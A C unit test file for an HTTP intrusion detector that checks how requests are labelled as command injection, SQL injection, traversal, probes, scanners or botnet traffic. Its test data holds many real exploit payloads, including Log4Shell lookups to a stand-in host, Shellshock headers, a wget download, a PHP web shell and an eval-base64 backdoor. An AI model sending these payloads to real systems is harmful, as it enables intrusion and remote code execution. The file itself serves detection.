/* Tests of http.h. */
#include "tests/unit/check.h"

#include "detector/http.h"

#include <stdlib.h>
#include <string.h>

static const char *pattern(const char *text)
{
    return http_pattern((const uint8_t *)text, strlen(text));
}

static void honest_requests_hold_nothing(void **state)
{
    static const char *const honest[] = {
        "GET / HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /search?q=order+by+phone&select=all HTTP/1.1\r\n",
        "GET /union/select.html?page=1 HTTP/1.1\r\n",
        "POST /login HTTP/1.1\r\nContent-Length: 40\r\n\r\nuser=x' or 1=1",
        "GET /a%20b%2Fc?script=1&id=o%27neill HTTP/1.1\r\n",
        "GET /css/../img/logo.png HTTP/1.1\r\n",
        "\x16\x03\x01\x02",
        "GET",
        "",
        "GET ",
    };

    (void)state;
    for (size_t i = 0; i < sizeof honest / sizeof honest[0]; i++)
        assert_null(pattern(honest[i]));
}

static void headers_tell_orders_and_tools(void **state)
{
    (void)state;
    assert_string_equal(pattern("POST /login HTTP/1.1\r\nUser-Agent: ${jndi:ldap://a/b}\r\n"), "command");
    assert_string_equal(pattern("GET /cgi HTTP/1.1\r\nReferer: () { :;}; ping -c1 a\r\n"), "command");
    assert_string_equal(pattern("GET /a HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.7\r\n"), "tool");
    assert_null(pattern("GET /a HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (like sqlmap/)\r\n"));
    assert_null(pattern("GET /a HTTP/1.1\r\nUser-Agent: sqlm"));
    assert_null(pattern("GET /nikto HTTP/1.1\r\nHost: DirBuster\r\n"));
}

static void bots_are_named_by_what_they_fetch(void **state)
{
    (void)state;
    assert_string_equal(pattern("POST /five/fre.php HTTP/1.0\r\n"), "bot");
    assert_string_equal(pattern("GET /bins/a.mpsl HTTP/1.0\r\n"), "bot");
    assert_string_equal(pattern("POST /a/bot.php HTTP/1.0\r\n\r\n"), "bot");
    assert_string_equal(pattern("GET /state1.php?U3ViamVjdD1QaW5nJmtleT0 HTTP/1.1\r\n"), "bot");
    assert_string_equal(pattern("POST /api/win7-pc_96572943812345/hello HTTP/1.1\r\nHost: a\r\n\r\n"), "bot");
    assert_null(pattern("POST /api/users/96572943812345/report HTTP/1.1\r\nHost: a\r\n\r\n"));
    assert_null(pattern("POST /api/host_20240101/upload HTTP/1.1\r\nHost: a\r\n\r\n"));
    assert_string_equal(pattern("POST / HTTP/1.1\r\nContent-Type: text/xml; charset=utf-8\r\n"
                                "SOAPAction: \"http://tempuri.org/Endpoint/CheckConnect\"\r\n\r\n"),
                        "bot");
    assert_null(pattern("POST /a.svc HTTP/1.1\r\nContent-Type: text/xml; charset=utf-8\r\n"
                        "SOAPAction: \"http://tempuri.org/IService1/GetData\"\r\n\r\n"));
    assert_string_equal(pattern("GET /b/in.php?botid=7 HTTP/1.1\r\nHost: a\r\n\r\n"), "bot");
    assert_null(pattern("GET /chat/start?botId=7 HTTP/1.1\r\nHost: a\r\n\r\n"));
    assert_string_equal(pattern("GET /x/config.bin HTTP/1.1\r\nHost: a\r\n\r\n"), "bot");
    assert_null(pattern("GET /userRpm/config.bin HTTP/1.1\r\nReferer: http://a/userRpm/BakNRestoreRpm.htm\r\n\r\n"));
    assert_null(pattern("GET /a.mpslx HTTP/1.0\r\n"));
    assert_null(pattern("GET /gateway.php HTTP/1.1\r\n"));
}

static const char *form(const char *text)
{
    return http_body_pattern((const uint8_t *)text, strlen(text));
}

static void an_order_behind_an_address_in_a_form_is_one(void **state)
{
    (void)state;
    assert_string_equal(form("ip=127.0.0.1%3B+cat+%2Fetc%2Fhosts&Submit=Submit"), "command");
    assert_string_equal(form("ip=127.0.0.1+%26%26+ls+-la&Submit=Submit"), "command");
    assert_string_equal(form("target=%7Cwhoami"), "command");
    assert_null(form("ip=127.0.0.1&count=4"));
    assert_null(form("address=12+High+St%3B+flat+2"));
    assert_null(form("comment=first+cd+%2Ftmp%3B+ls+-la"));
    assert_null(form("q=a%3B+ls+-la"));
    assert_string_equal(form("--7\r\nContent-Type: application/x-php\r\n\r\n<?php echo shell_exec($_GET['a']); ?>"),
                        "command");
    assert_null(form("--7\r\nContent-Type: application/x-php\r\n\r\n<?php echo date('Y'); ?>"));
}

static void attacks_are_named_also_when_encoded_twice(void **state)
{
    (void)state;
    assert_string_equal(pattern("GET /p.php?id=-1+UNION/**/SELECT+1,2 HTTP/1.1\r\n"), "sql");
    assert_string_equal(pattern("GET /p?id=1%27%20or%20%271%27=%271 HTTP/1.1\r\n"), "sql");
    assert_string_equal(pattern("GET /p?q=%253Cscript%253E HTTP/1.1\r\n"), "script");
    assert_string_equal(pattern("GET /%2e%2e/%2e%2e/%2e%2e/x HTTP/1.1\r\n"), "traversal");
    assert_string_equal(pattern("GET /.env HTTP/1.1\r\n"), "probe");
    assert_string_equal(pattern("GET /?x=${jndi:ldap://h/a} HTTP/1.1\r\n"), "command");
}

#define GET(path) "GET " path " HTTP/1.1\r\nHost: a\r\n\r\n"

/* What breaks into servers and devices, each form of it once. */
static void published_exploits_are_named_wherever_they_stand(void **state)
{
    static const struct {
        const char *text, *name;
    } rows[] = {
        {GET("/?x=${${lower:j}ndi:ldap://h/a}"), "command"},
        {GET("/?x=$%7B%24%7B::-j%7Dndi"), "command"},
        {"GET / HTTP/1.1\r\nX-Api-Version: ${${env:A:-j}ndi:ldap://h/a}\r\n\r\n", "command"},
        {"POST /a HTTP/1.1\r\nHost: a\r\n\r\n{\"user\":\"${jndi:rmi://h/a}\"}", "command"},
        {"GET /cgi-bin/s HTTP/1.1\r\nUser-Agent: () { _; } >_[$($())] { id; }\r\n\r\n", "command"},
        {"POST /a.action HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data').(#dm=@a@b)}\r\n\r\n", "command"},
        {GET("/$%7B(%23a=%40org.apache.commons.io.IOUtils)%7D/"), "command"},
        {GET("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=a"), "command"},
        {GET("/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=phpinfo"), "command"},
        {GET("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), "probe"},
        {GET("/cgi-bin/.%2e/.%2e/.%2e/bin/id"), "traversal"},
        {GET("/icons/.%%32%65/.%%32%65/etc/hosts"), "traversal"},
        {GET("/scripts/..%c0%af../winnt/a"), "traversal"},
        {GET("/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp"), "traversal"},
        {GET("/tmui/login.jsp/..;/tmui/a.jsp"), "traversal"},
        {GET("/vpn/../vpns/cfg/smb.conf"), "traversal"},
        {GET("/default.ida?NNNN%u9090%u6858"), "command"},
        {GET("/scripts/root.exe?/c+dir"), "command"},
        {"PUT /a.jsp/ HTTP/1.1\r\nHost: a\r\n\r\n<% out.print(1); %>", "command"},
        {"PUT /a.php HTTP/1.1\r\nHost: a\r\n\r\n<?php echo 1;", "command"},
        {GET("/ping?host=127.0.0.1;cat%20/etc/hosts"), "command"},
        {GET("/ping?host=`id`"), "command"},
        {GET("/index.php?page=http://h/a.txt?"), "command"},
        {GET("/index.php?page=http://h/a??"), "command"},
        {GET("/a?f=../../../boot"), "traversal"},
        {GET("/img/../../../boot"), "traversal"},
        {GET("/a/../../b"), "traversal"},
        {GET("/item?id=4%20and%20length(database())=7"), "sql"},
        {GET("/item?id=4,sleep(5)"), "sql"},
        {GET("/item?id=4%20union%20all%20(table%20information_schema.tables)"), "sql"},
        {GET("/a/.git/config"), "probe"},
        {GET("/.env.bak"), "probe"},
        {GET("/HNAP1/"), "probe"},
        {"POST /HNAP1/ HTTP/1.1\r\nSOAPAction: \"http://purenetworks.com/HNAP1/`cd /tmp`\"\r\n\r\n", "probe"},
        {GET("/up/c99.php?act=ls"), "command"},
        {GET("/acunetix-wvs-test-for-some-inexistent-file"), "tool"},
        {GET("/ping?host=a%0Awget%20http://h/a"), "command"},
        {GET("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"), "command"},
        {GET("/language/Swedish${IFS}&&echo"), "command"},
        {GET("/item?id=4%20AND%207123=7123"), "sql"},
        {GET("/item?id=4')%20OR%20('q'='q"), "sql"},
        {GET("/item?id=4%20and%20(select%20count(*)%20from%20users)>0"), "sql"},
        {GET("/item?id=1;select%20*%20from%20users"), "sql"},
        {GET("/item?id=select+*+from+users"), "sql"},
        {GET("/p?q=%22%20onmouseover=prompt(1)%20x=%22"), "script"},
        {"POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nuser=a%27+or+1%3D1+--+&p=",
         "sql"},
        {"POST /a.php HTTP/1.1\r\nHost: "
         "a\r\n\r\nz=%40eval%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=QGluaV9zZXQo",
         "command"},
        {"POST /wls-wsat/CoordinatorPortType HTTP/1.1\r\nHost: a\r\n\r\n<a/>", "probe"},
        {"POST /x HTTP/1.1\r\nHost: a\r\n\r\n<object class=\"java.lang.ProcessBuilder\">", "command"},
        {"POST /x HTTP/1.1\r\nHost: a\r\n\r\n<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hosts\">]>", "traversal"},
        {"POST /goform/setMac HTTP/1.1\r\nHost: a\r\n\r\nmac=a;/bin/busybox", "command"},
        {"POST /picsdesc.xml HTTP/1.1\r\nHost: a\r\n\r\n<NewInternalClient>`cd /var; x`</NewInternalClient>",
         "command"},
        {"GET /a HTTP/1.1\r\nRange: bytes=0-,5-0,5-1,5-2,5-3\r\n\r\n", "command"},
        {"GET /a HTTP/1.1\r\nRange: bytes=18-18446744073709551615\r\n\r\n", "command"},
        {"PROPFIND / HTTP/1.1\r\nIf: <http://a/b> (Not <locktoken:write1>) <http://a/c>\r\n\r\n", "command"},
        {"SEARCH /\x90\x90\x90\x90\x90\x90\x90\x90\x90 HTTP/1.1\r\n", "command"},
        {"GET /a HTTP/1.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n", "tool"},
        {"GET /a HTTP/1.1\r\nuser-agent: SQLMAP/1\r\n\r\n", "tool"},
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        const char *found = pattern(rows[i].text);

        if (found == NULL || strcmp(found, rows[i].name) != 0)
            fail_msg("%s: %s", rows[i].text, found == NULL ? "nothing" : found);
    }
}

/* The same words where people write about them, link to them or search for them; and what is only alike. */
static void their_honest_twins_hold_nothing(void **state)
{
    static const char *const rows[] = {
        GET("/docs/log4j-jndi-lookup.html"),
        "GET /a HTTP/1.1\r\nReferer: http://a/?q=what+is+../../etc+and+1=1\r\n\r\n",
        "POST /wiki/edit HTTP/1.1\r\nContent-Type: text/plain\r\n\r\nTo download: wget http://a/b; chmod 777 b; cd "
        "/tmp",
        "POST /wiki/edit HTTP/1.1\r\nContent-Type: text/plain\r\n\r\nSQL: ' or 1=1 always holds; union select joins",
        "POST /goform/setName HTTP/1.1\r\nHost: a\r\n\r\nname=router&ping=10.0.0.1",
        GET("/search?q=java.lang.RuntimeException+at+line+3"),
        GET("/docs/time.sleep().html"),
        GET("/phpmyadmin/db_structure.php?db=information_schema&table=x"),
        GET("/phpmyadmin/sql.php?table=users&sql_query=SELECT+%2A+FROM+%60users%60"),
        GET("/thumb.php?src=../../images/a.jpg&w=100"),
        GET("/news/2008/may/../../img/logo.gif"),
        GET("/odata/a?$filter=Price%20gt%205%20and%20length(Name)%20gt%2010"),
        GET("/odata/a?$filter=Price%20gt%205%20and%20substring(Name,1)%20eq%20%27x%27"),
        GET("/rest/services/a/0/query?where=STATE%3D%27CA%27%20AND%201%3D1&f=json"),
        GET("/api/items?fields=name;id;price"),
        GET("/api.php?props=title|id"),
        GET("/redirect?url=http://example.com/landing?"),
        GET("/assets/.environment.json"),
        "GET /a/.git/info/refs HTTP/1.1\r\nUser-Agent: git/2.39\r\n\r\n",
        "POST /HNAP1/ HTTP/1.1\r\nReferer: http://192.168.0.1/Login.html\r\n\r\n",
        "POST /HNAP1/ HTTP/1.1\r\nSOAPAction: \"http://purenetworks.com/HNAP1/Login\"\r\n\r\n",
        "POST /boaform/formLogin HTTP/1.1\r\nReferer: http://192.168.1.1/login.asp\r\n\r\nuser=a",
        "GET /chat/say.php?bot_id=6&say=hi HTTP/1.1\r\nReferer: http://a/chat\r\n\r\n",
        GET("/search?tags=java|python|curl|sleep"),
        GET("/search?q=dogs;cats;id=5;ls"),
        GET("/search?q=rock+and+roll=fun"),
        GET("/search?q=a+and+1=2"),
        GET("/search?q=salt+or+10=100"),
        GET("/recaptcha/api.js?onload=ready&render=explicit"),
        GET("/query?db=m&q=select+*+from+cpu"),
        GET("/?query=SELECT%20*%20FROM%20system.tables"),
        GET("/a/%2e/b"),
        GET("/file.jsp?x=1"),
        GET("/a%20and%20b.exe"),
        GET("/pypi/pycurl"),
        GET("/share?u=http://h/a.txt"),
        GET("/img/a.jpg?"),
        GET("/share?u=http://h/a.txt?x=1"),
        GET("/bot.php?+"),
        "POST /jobs HTTP/1.1\r\nHost: a\r\n\r\nfor x in ${#list[@]}; do wget http://a/b; done",
        "PUT /dav/a.php HTTP/1.1\r\nHost: a\r\n\r\nHello",
        "GET /a HTTP/1.1\r\nRange: bytes=0-499,500-999\r\n\r\n",
        "GET /a HTTP/1.1\r\nRange: bytes=0-18446744073709551\r\n\r\n",
        "PROPFIND /dav HTTP/1.1\r\nIf: (<locktoken:a>)\r\n\r\n",
        "POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"a\":{\"b\":\"$(document).ready()\"}}",
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        if (pattern(rows[i]) != NULL)
            fail_msg("%s: %s", rows[i], pattern(rows[i]));
    }
}

/* What a client sends behind a head that it sent alone. */
static void a_body_of_its_own_is_read_without_its_head(void **state)
{
    static const struct {
        const char *text, *name;
    } rows[] = {{"user=admin%27+or+1%3D1--&pass=", "sql"},
                {"I wrote user=admin' or 1=1-- here", NULL},
                {"{\"user\":\"${jndi:ldap://h/a}\"}", "command"},
                {"{\"log\":\"it held ${jndi:ldap://h/a}\"}", NULL},
                {"GUID=1&BUILD=2&INFO=3", "bot"},
                {"J/\xfb\x30", "bot"},
                {"RECV", "bot"},
                {"RECV=1", NULL},
                {"<!ENTITY x SYSTEM \"file:///etc/hosts\">", "traversal"},
                {"for x in ${#list[@]}; do wget http://a/b; done", NULL},
                {"name=anna&city=K%C3%B6ln", NULL}};

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        const char *found = http_body_pattern((const uint8_t *)rows[i].text, strlen(rows[i].text));

        if (rows[i].name == NULL ? found != NULL : found == NULL || strcmp(found, rows[i].name) != 0)
            fail_msg("%s: %s", rows[i].text, found == NULL ? "nothing" : found);
    }
}

static void a_request_filled_with_one_letter_is_an_overflow(void **state)
{
    char text[700] = "GET /a?";

    (void)state;
    memset(text + 7, 'N', 400);
    strcpy(text + 407, " HTTP/1.0\r\n\r\n");
    assert_string_equal(pattern(text), "command");
    memset(text + 7, '0', 400); /* numbers may be long */
    assert_null(pattern(text));
    memset(text + 7, 'N', 400);
    for (size_t i = 7; i < 407; i += 150)
        text[i] = '/';
    assert_null(pattern(text));
}

#define HEX32  "0123456789ABCDEF0123456789ABCDEF"
#define B64(n) "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJz" n

/* By the shape of a request; beside each the honest one that is most like it. */
static void bots_are_known_by_the_shape_of_what_they_ask(void **state)
{
    static const struct {
        const char *bot, *honest;
    } rows[] = {
        {"GET /ptj HTTP/1.1\r\nHost: a\r\nCookie: " B64(
             B64("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2w=")) "\r\n\r\n",
         "GET /ptj HTTP/1.1\r\nHost: a\r\nCookie: a=" B64(
             B64("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa=")) "\r\n\r\n"},
        {"GET /aab8 HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (a)\r\nHost: 10.0.4.4:8080\r\n\r\n",
         "GET /aaaa HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (a)\r\nHost: 10.0.4.4:8080\r\n\r\n"},
        {"GET /a.exe HTTP/1.1\r\nHost: 8.8.4.4:8080\r\nUser-Agent: x\r\n\r\n",
         "GET /a.exe HTTP/1.1\r\nHost: 192.168.4.4:8080\r\nUser-Agent: x\r\n\r\n"},
        {"GET /a/b.mips HTTP/1.0\r\nHost: 8.8.4.4\r\n\r\n", "GET /a/b.mips HTTP/1.0\r\nHost: example.com\r\n\r\n"},
        {"GET /a.exe HTTP/1.1\r\nHost: 8.8.4.4\r\n\r\n",
         "GET /a.exe HTTP/1.1\r\nHost: 8.8.4.4\r\nAccept-Language: de\r\n\r\n"},
        {"GET / HTTP/1.1\r\nCookie: __gads=1:1:2:3; _gat=10.0.1.64; _ga=1.2.3; _u=41; __io=21_1; _gid=67\r\n\r\n",
         "GET / HTTP/1.1\r\nCookie: __gads=1:1:2:3; _gat=1; _ga=1.2.3; _gid=67\r\n\r\n"},
        {"GET /news.php HTTP/1.1\r\nCookie: session=QUJDREVGR0hJSktMTU5PUFE=\r\n\r\n",
         "GET /blog.php HTTP/1.1\r\nCookie: session=QUJDREVGR0hJSktMTU5PUFE=\r\n\r\n"},
        {"GET /ono1/DESK_W10019041." HEX32 "/5/spk/ HTTP/1.1\r\n\r\n",
         "GET /ono1/DESK_W10019041." HEX32 "0/5/spk/ HTTP/1.1\r\n\r\n"},
        {"GET /images/" B64("_2F/") B64("_2B/") "ab.avi HTTP/1.1\r\nHost: a\r\n\r\n",
         "GET /images/" B64("-2F/") B64("-2B/") "ab.avi HTTP/1.1\r\nHost: a\r\n\r\n"},
        {"GET /a?sid=" HEX32 ";csrf=" HEX32 "; HTTP/1.1\r\n\r\n",
         "GET /a?sid=" HEX32 "&csrf=" HEX32 "; HTTP/1.1\r\n\r\n"},
        {"POST /a HTTP/1.0\r\nContent-Encoding: binary\r\nContent-Key: 1A2B3C4D\r\n\r\n",
         "POST /a HTTP/1.0\r\nContent-Encoding: binary\r\n\r\n"},
        {"POST /a HTTP/1.0\r\nHost: a\r\n\r\nid=1&hwid=0123&pcname=ANNA",
         "POST /activate HTTP/1.0\r\nHost: a\r\n\r\nkey=1&hwid=0123&version=2"},
        {"POST /is-ready HTTP/1.1\r\nHost: a\r\n\r\n", "GET /is-ready HTTP/1.1\r\nHost: a\r\n\r\n"},
        {"POST /submit.php?id=7 HTTP/1.1\r\nHost: a\r\n\r\n",
         "POST /submit.php?id=7 HTTP/1.1\r\nReferer: http://a/new\r\n\r\n"},
        {"GET /a/gate.php?x=1 HTTP/1.1\r\nHost: a\r\n\r\n",
         "GET /pay/gate.php?x=1 HTTP/1.1\r\nReferer: http://a/cart\r\n\r\n"},
        {"GET /a.spc HTTP/1.0\r\n\r\n", "GET /music/a.spc HTTP/1.0\r\nReferer: http://a/music\r\n\r\n"},
        {"GET /cfg.bin HTTP/1.1\r\nUser-Agent: Mozilla/4.0 (a)\r\n\r\n",
         "GET /cfg.bin HTTP/1.1\r\nUser-Agent: Telephone 7\r\n\r\n"},
        {"POST /a/b/ HTTP/1.1\r\nReferer: 8.8.4.4/a/b/\r\nHost: 8.8.4.4\r\n\r\n",
         "POST /a/b/ HTTP/1.1\r\nReferer: http://8.8.4.4/a/b/\r\nHost: 8.8.4.4\r\n\r\n"},
        {"POST /a/ HTTP/1.1\r\nDNT: 1\r\nHost: 8.8.4.4\r\n\r\n",
         "POST /a/ HTTP/1.1\r\nDNT: 1\r\nAccept: */*\r\nHost: 8.8.4.4\r\n\r\n"},
        {"POST /a HTTP/1.1\r\nReferer: Mozilla\r\n\r\n", "POST /a HTTP/1.1\r\nReferer: http://Mozilla\r\n\r\n"},
        {"POST /a HTTP/1.1\r\nHost: a\r\n\r\nGUID=1&BUILD=2&INFO=3&IP=4",
         "POST /a HTTP/1.1\r\nHost: a\r\n\r\nGUID=1&NAME=2&INFO=3"},
        {"POST /a HTTP/1.1\r\nHost: a\r\n\r\nid=1&vs=3.8&sd=a&os=1&bi=1&lv=0",
         "POST /a HTTP/1.1\r\nHost: a\r\n\r\nid=1&vs=3.8&sd=a&os=1"},
        {"POST /a.php?k=x HTTP/1.1\r\nHost: a\r\n\r\nz=" HEX32 HEX32 HEX32,
         "POST /a.php?k=x HTTP/1.1\r\nHost: a\r\n\r\nz=" HEX32 HEX32},
        {"GET /a HTTP/1.1\r\nUser-Agent: HACKED<|>PC<|>anna\r\n\r\n",
         "GET /a HTTP/1.1\r\nUser-Agent: a <b> | c\r\n\r\n"},
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        if (pattern(rows[i].bot) == NULL || strcmp(pattern(rows[i].bot), "bot") != 0)
            fail_msg("%s: nothing", rows[i].bot);
        if (pattern(rows[i].honest) != NULL)
            fail_msg("%s: %s", rows[i].honest, pattern(rows[i].honest));
    }
    assert_string_equal(
        http_pattern((const uint8_t *)"GET /a?x=1 HTTP/1.1\r\nConnection: close\r\n\r\n\0\0\0\0\0", 47), "bot");
    assert_null(http_pattern((const uint8_t *)"GET /a?x=1 HTTP/1.1\r\nConnection: close\r\n\r\n\0", 43));
    assert_null(http_pattern((const uint8_t *)"GET /a?x=1 HTTP/1.1\r\nHost: a\r\n\r\n\0\0\0\0\0", 38));
}

static void every_cut_of_a_request_is_safe(void **state)
{
    static const char *const texts[] = {
        "GET /p?q=%3cscript%3e%2 HTTP/1.1\r\n",
        "POST /goform/a?x=1%20and%20'1'='1;id HTTP/1.1\r\nCookie: session=a=\r\nReferer: 8.8.4.4/a\r\nHost: "
        "8.8.4.4\r\nRange: a\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\nUser-Agent: Mozilla/5\r\n\r\na=1${",
        "GET /a?sid=" HEX32 ";csrf=" HEX32 "_W1001904." HEX32 " HTTP/1.1\r\n\r\n"};

    (void)state;
    for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
        for (size_t cut = 0; cut <= strlen(texts[i]); cut++) {
            uint8_t *copy = malloc(cut + 1),
                    *exact = copy + 1; /* as AddressSanitizer sees it: it ends where the text does */

            assert_non_null(copy);
            memcpy(exact, texts[i], cut);
            (void)http_pattern(exact, cut);
            free(copy);
        }
    }
}

static void an_answer_that_nothing_is_there_is_known_by_its_status(void **state)
{
    static const struct {
        const char *text;
        bool missing;
    } cases[] = {{"HTTP/1.1 404 Not Found\r\n", true},
                 {"HTTP/1.0 403 Forbidden", true},
                 {"HTTP/1.1 400", true},
                 {"HTTP/1.1 200 OK\r\n", false},
                 {"HTTP/1.1 40", false},
                 {"GET /404 HTTP/1.1", false},
                 {"HTTP/1.1x404", false},
                 {"", false}};

    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        assert_int_equal(http_is_missing((const uint8_t *)cases[i].text, strlen(cases[i].text)), cases[i].missing);
}

static void a_password_of_basic_authentication_is_read_whole_or_not_at_all(void **state)
{
    static const char request[] = "GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Basic YTpi\r\n\r\n";
    static const char proxy[] = "GET / HTTP/1.1\r\nProxy-Authorization: Basic YTpi\r\n\r\n";
    const char *at = NULL;
    size_t end = (size_t)(strstr(request, "YTpi") - request) + 4;

    (void)state;
    assert_int_equal(http_password((const uint8_t *)request, sizeof request - 1, &at), 4);
    assert_memory_equal(at, "YTpi", 4);
    assert_int_equal(http_password((const uint8_t *)proxy, sizeof proxy - 1, &at), 0);
    for (size_t cut = 0; cut <= end; cut++)
        assert_int_equal(http_password((const uint8_t *)request, cut, &at), 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_password_of_basic_authentication_is_read_whole_or_not_at_all),
        cmocka_unit_test(an_answer_that_nothing_is_there_is_known_by_its_status),
        cmocka_unit_test(honest_requests_hold_nothing),
        cmocka_unit_test(headers_tell_orders_and_tools),
        cmocka_unit_test(bots_are_named_by_what_they_fetch),
        cmocka_unit_test(an_order_behind_an_address_in_a_form_is_one),
        cmocka_unit_test(attacks_are_named_also_when_encoded_twice),
        cmocka_unit_test(every_cut_of_a_request_is_safe),
        cmocka_unit_test(published_exploits_are_named_wherever_they_stand),
        cmocka_unit_test(their_honest_twins_hold_nothing),
        cmocka_unit_test(a_body_of_its_own_is_read_without_its_head),
        cmocka_unit_test(a_request_filled_with_one_letter_is_an_overflow),
        cmocka_unit_test(bots_are_known_by_the_shape_of_what_they_ask),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
